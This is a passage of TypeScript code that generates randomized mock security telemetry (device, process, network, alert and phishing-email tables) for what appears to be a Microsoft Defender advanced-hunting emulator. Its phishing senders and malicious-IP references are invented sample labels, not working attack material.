				OSPlatform: machine.osPlatform,
				OSVersion: machine.version,
				OSBuild: machine.osBuild,
				PublicIP: machine.lastExternalIpAddress,
				MachineGroup: machine.rbacGroupName,
				OnboardingStatus: machine.onboardingStatus,
				DeviceType: machine.osPlatform.startsWith('WindowsServer') ? 'Server' : 'Workstation',
				SensorHealthState: machine.healthStatus,
				ExposureLevel: machine.exposureLevel,
				IsAzureADJoined: machine.isAadJoined,
				AadDeviceId: machine.aadDeviceId ?? '',
				ReportId: reportId++,
			});
		}
	}

	const processFiles = files.filter((file) => file.fileName.endsWith('.exe'));
	const deviceProcessEvents: HuntingRow[] = [];
	for (let index = 0; index < 1500; index++) {
		const machine = random.pick(machines);
		const user = random.pick(users);
		const file = random.weighted(processFiles.map((candidate) => [candidate, candidate.isMalicious ? 1 : 6] as const));
		const parent = random.pick(processFiles.filter((candidate) => !candidate.isMalicious));
		deviceProcessEvents.push({
			Timestamp: timeWithin30Days(),
			DeviceId: machine.id,
			DeviceName: machine.computerDnsName,
			ActionType: 'ProcessCreated',
			FileName: file.fileName,
			FolderPath: `${file.filePath}\\${file.fileName}`,
			SHA1: file.sha1,
			SHA256: file.sha256,
			MD5: file.md5,
			ProcessId: random.int(1000, 30_000),
			ProcessCommandLine: commandLine(file.fileName, random),
			AccountDomain: user.domainName.toLowerCase(),
			AccountName: user.accountName,
			AccountUpn: user.userPrincipalName,
			InitiatingProcessFileName: parent.fileName,
			InitiatingProcessCommandLine: parent.fileName,
			InitiatingProcessId: random.int(400, 9_999),
			InitiatingProcessAccountName: user.accountName,
			ReportId: reportId++,
		});
	}

	const deviceNetworkEvents: HuntingRow[] = [];
	for (let index = 0; index < 1000; index++) {
		const machine = random.pick(machines);
		const malicious = random.chance(0.08);
		deviceNetworkEvents.push({
			Timestamp: timeWithin30Days(),
			DeviceId: machine.id,
			DeviceName: machine.computerDnsName,
			ActionType: random.weighted([['ConnectionSuccess', 8], ['ConnectionFailed', 1], ['InboundConnectionAccepted', 1]] as const),
			RemoteIP: malicious ? random.pick(MALICIOUS_IPS) : `52.${random.int(96, 115)}.${random.int(0, 255)}.${random.int(1, 254)}`,
			RemotePort: random.pick([443, 443, 443, 80, 445, 3389, 8080]),
			RemoteUrl: malicious ? random.pick(MALICIOUS_URLS).replace(/^https?:\/\//, '').split('/')[0] : random.pick(['login.microsoftonline.com', 'www.office.com', 'outlook.office365.com', 'github.com', 'contoso.sharepoint.com']),
			LocalIP: machine.lastIpAddress,
			LocalPort: random.int(49_152, 65_535),
			Protocol: 'Tcp',
			InitiatingProcessFileName: random.pick(['chrome.exe', 'msedge.exe', 'powershell.exe', 'svchost.exe', 'OUTLOOK.EXE']),
			InitiatingProcessAccountName: random.pick(users).accountName,
			ReportId: reportId++,
		});
	}

	const alertInfo: HuntingRow[] = alerts.map((alert) => ({
		Timestamp: new Date(alert.createdDateTime),
		AlertId: alert.id,
		Title: alert.title,
		Category: alert.category,
		Severity: pascal(alert.severity),
		ServiceSource: PRODUCT_NAMES[alert.serviceSource] ?? alert.serviceSource,
		DetectionSource: pascal(alert.detectionSource),
		AttackTechniques: JSON.stringify(alert.mitreTechniques),
	}));

	const alertEvidence: HuntingRow[] = [];
	for (const alert of alerts) {
		for (const evidence of alert.evidence) {
			const type = String(evidence['@odata.type']).replace('#microsoft.graph.security.', '').replace('Evidence', '');
			const details = (evidence.fileDetails ?? evidence.imageFile) as Record<string, unknown> | undefined;
			const account = evidence.userAccount as Record<string, unknown> | undefined;
			const device = alert.evidence.find((candidate) => candidate.mdeDeviceId);
			alertEvidence.push({
				Timestamp: new Date(alert.createdDateTime),
				AlertId: alert.id,
				Title: alert.title,
				Categories: JSON.stringify([alert.category]),
				ServiceSource: PRODUCT_NAMES[alert.serviceSource] ?? alert.serviceSource,
				DetectionSource: pascal(alert.detectionSource),
				EntityType: pascal(type === 'device' ? 'machine' : type),
				EvidenceRole: type === 'device' || type === 'user' ? 'Impacted' : 'Related',
				DeviceId: (device?.mdeDeviceId as string | undefined) ?? '',
				DeviceName: (device?.deviceDnsName as string | undefined) ?? '',
				SHA1: (details?.sha1 as string | undefined) ?? '',
				SHA256: (details?.sha256 as string | undefined) ?? '',
				FileName: (details?.fileName as string | undefined) ?? '',
				AccountUpn: (account?.userPrincipalName as string | undefined) ?? '',
				AccountName: (account?.accountName as string | undefined) ?? '',
				RemoteIP: (evidence.ipAddress as string | undefined) ?? '',
				RemoteUrl: (evidence.url as string | undefined) ?? '',
			});
		}
	}

	const emailEvents: HuntingRow[] = [];
	const senders = ['billing@contoso-payroll.top', 'no-reply@docusign.net', 'it-helpdesk@contoso.com', 'ceo@contoso.com', 'newsletter@fabrikam.com', 'security@micros0ft-support.com'];
	for (let index = 0; index < 400; index++) {
		const sender = random.pick(senders);
		const phish = sender.includes('.top') || sender.includes('micros0ft');
		emailEvents.push({
			Timestamp: timeWithin30Days(),
			NetworkMessageId: random.guid(),
			InternetMessageId: `<${random.hex(24)}@${sender.split('@')[1]}>`,
			SenderFromAddress: sender,
			SenderFromDomain: sender.split('@')[1],
			SenderIPv4: phish ? random.pick(MALICIOUS_IPS) : `40.107.${random.int(0, 255)}.${random.int(1, 254)}`,
			RecipientEmailAddress: random.pick(users).userPrincipalName,
			Subject: phish ? random.pick(['Invoice overdue - action required', 'Your password expires today', 'Payroll update']) : random.pick(['Weekly report', 'Team lunch', 'Q3 planning', 'Newsletter']),
			EmailDirection: sender.endsWith('@contoso.com') ? 'Intra-org' : 'Inbound',
			DeliveryAction: phish ? random.pick(['Delivered', 'Blocked', 'Junked']) : 'Delivered',
			DeliveryLocation: phish ? random.pick(['Inbox/folder', 'Quarantine', 'Junk folder']) : 'Inbox/folder',
			ThreatTypes: phish ? 'Phish' : '',
			DetectionMethods: phish ? '{"Phish":["URL detonation reputation"]}' : '',
			AttachmentCount: random.int(0, 2),
			UrlCount: random.int(0, 6),
			ReportId: reportId++,
		});
	}

	const s = (name: string): HuntingColumn => ({ name, type: 'string' });
	const d = (name: string): HuntingColumn => ({ name, type: 'datetime' });
	const l = (name: string): HuntingColumn => ({ name, type: 'long' });
	const i = (name: string): HuntingColumn => ({ name, type: 'int' });
	const b = (name: string): HuntingColumn => ({ name, type: 'bool' });

	const machineNames = machines.map((machine) => machine.computerDnsName);
	const emulatorRows: HuntingTable = {
		name: 'EmulatorRows',
		columns: [i('RowNumber'), s('DeviceName'), d('Timestamp'), s('Payload')],
		rows: function* () {
			for (let rowNumber = 1; rowNumber <= EMULATOR_ROWS_COUNT; rowNumber++) {
				yield {
					RowNumber: rowNumber,
					DeviceName: machineNames[rowNumber % machineNames.length],
					Timestamp: new Date(anchor - rowNumber * 5_000),
					Payload: `row-${rowNumber}-${(rowNumber * 2_654_435_761 >>> 0).toString(36).padStart(8, '0')}`,
				};
			}
		},
	};

	return [
		table('DeviceInfo', [d('Timestamp'), s('DeviceId'), s('DeviceName'), s('OSPlatform'), s('OSVersion'), l('OSBuild'), s('PublicIP'), s('MachineGroup'), s('OnboardingStatus'), s('DeviceType'), s('SensorHealthState'), s('ExposureLevel'), b('IsAzureADJoined'), s('AadDeviceId'), l('ReportId')], deviceInfo),
		table('DeviceProcessEvents', [d('Timestamp'), s('DeviceId'), s('DeviceName'), s('ActionType'), s('FileName'), s('FolderPath'), s('SHA1'), s('SHA256'), s('MD5'), l('ProcessId'), s('ProcessCommandLine'), s('AccountDomain'), s('AccountName'), s('AccountUpn'), s('InitiatingProcessFileName'), s('InitiatingProcessCommandLine'), l('InitiatingProcessId'), s('InitiatingProcessAccountName'), l('ReportId')], deviceProcessEvents),
		table('DeviceNetworkEvents', [d('Timestamp'), s('DeviceId'), s('DeviceName'), s('ActionType'), s('RemoteIP'), i('RemotePort'), s('RemoteUrl'), s('LocalIP'), i('LocalPort'), s('Protocol'), s('InitiatingProcessFileName'), s('InitiatingProcessAccountName'), l('ReportId')], deviceNetworkEvents),
		table('AlertInfo', [d('Timestamp'), s('AlertId'), s('Title'), s('Category'), s('Severity'), s('ServiceSource'), s('DetectionSource'), s('AttackTechniques')], alertInfo),
		table('AlertEvidence', [d('Timestamp'), s('AlertId'), s('Title'), s('Categories'), s('ServiceSource'), s('DetectionSource'), s('EntityType'), s('EvidenceRole'), s('DeviceId'), s('DeviceName'), s('SHA1'), s('SHA256'), s('FileName'), s('AccountUpn'), s('AccountName'), s('RemoteIP'), s('RemoteUrl')], alertEvidence),
		table('EmailEvents', [d('Timestamp'), s('NetworkMessageId'), s('InternetMessageId'), s('SenderFromAddress'), s('SenderFromDomain'), s('SenderIPv4'), s('RecipientEmailAddress'), s('Subject'), s('EmailDirection'), s('DeliveryAction'), s('DeliveryLocation'), s('ThreatTypes'), s('DetectionMethods'), i('AttachmentCount'), i('UrlCount'), l('ReportId')], emailEvents),
		emulatorRows,
	];
}
